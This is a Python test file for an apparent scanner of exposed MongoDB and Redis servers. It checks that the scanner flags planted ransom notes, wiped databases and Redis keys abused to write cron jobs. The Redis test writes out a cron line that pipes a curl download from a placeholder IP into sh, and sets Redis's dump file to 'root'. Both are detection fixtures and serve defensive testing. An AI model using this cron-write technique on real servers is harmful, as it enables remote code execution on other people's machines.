"""Notes left in real stores are told as known patterns, and not a word of them is kept."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from leftopen.servers import mongodb, redis
from leftopen.servers.base import Server
from leftopen.testing import leftopen, start

TEXT = "All your data is backed up. Pay 0.0043 BTC to bc1qleftopencanary or it is made public"


def scanned(server: Server, tmp_path: Path) -> dict[str, Any]:
    store = tmp_path / "r.db"
    ran = leftopen("scan", server.where, "--format", "json", store=store)
    assert "bc1qleftopencanary" not in ran.out + ran.err
    assert b"bc1qleftopencanary" not in store.read_bytes()
    (exposure,) = json.loads(ran.out)["exposures"]
    table = leftopen("report", "last", store=store)
    assert "Matches a known pattern: " in table.out
    assert "breached" not in table.out
    assert isinstance(exposure, dict)
    return exposure


def test_a_mongodb_with_a_note_and_nothing_else_is_wiped(tmp_path: Path) -> None:
    with start(mongodb.secantus) as server:
        note = {"content": TEXT, "btcAddress": "bc1qleftopencanary", "email": "x@example.org"}
        mongodb.fill(server, "READ__ME_TO_RECOVER_YOUR_DATA", "README", [note])
        told = scanned(server, tmp_path)["tampering"]
    assert {"indicator": "wiped", "family": "wiped"} in told
    assert "ransom_note" in {each["family"] for each in told}


def test_a_mongodb_with_a_note_beside_its_data_is_not_wiped(tmp_path: Path) -> None:
    with start(mongodb.secantus) as server:
        mongodb.fill(server, "READ__ME_TO_RECOVER_YOUR_DATA", "README", [{"content": TEXT}])
        mongodb.fill(server, "town", "people", [{"name": "Ann Lee"}] * 30)
        families = {each["family"] for each in scanned(server, tmp_path)["tampering"]}
    assert "ransom_note" in families
    assert "wiped" not in families


def test_a_redis_that_was_made_to_write_cron_jobs(tmp_path: Path) -> None:
    line = "\n\n*/5 * * * * curl http://192.0.2.1/bc1qleftopencanary | sh\n\n"
    with start(redis.redis, program="wheel") as server:  # Redis 7 lets nobody change its dump file
        planted = [("SET", f"backup{n}", line) for n in range(1, 5)]
        # a key that is called as the setting is must not hide it
        named_alike = ("RPUSH", "dbfilename", *range(5))
        redis.fill(server, [*planted, named_alike, ("CONFIG", "SET", "dbfilename", "root")])
        told = scanned(server, tmp_path)["tampering"]
    assert told == [
        {"indicator": "redis.cron-keys", "family": "cron_job"},
        {"indicator": "redis.dump-is-key-or-schedule", "family": "cron_job"},
    ]


def test_an_ordinary_store_has_no_signs(tmp_path: Path) -> None:
    with start(redis.redis) as server:
        redis.fill(server, [("SET", f"user:{n}", "Ann Lee") for n in range(20)])
        ran = leftopen("scan", server.where, "--format", "json", store=tmp_path / "r.db")
    assert [e["tampering"] for e in json.loads(ran.out)["exposures"]] == [[]]
